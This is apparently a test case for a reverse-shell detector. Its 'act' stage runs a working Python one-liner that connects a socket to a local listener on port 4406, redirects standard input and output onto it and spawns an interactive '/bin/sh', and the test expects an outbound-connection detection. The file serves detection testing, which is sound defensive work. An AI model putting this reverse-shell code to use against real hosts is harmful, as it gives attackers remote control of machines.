# R06: python gives its connection to a shell
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4406

#: prepare
. lib/peers.sh
peer 4406
#: act
. lib/peers.sh
act
python3 -c '
import os, socket, subprocess
s = socket.create_connection(("127.0.0.1", 4406))
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])' < /dev/null > /dev/null 2>&1 & fact python $!
who shell '/bin/sh -i'
await 'at $shell 0 socket:* && same $shell 0 $python 3'
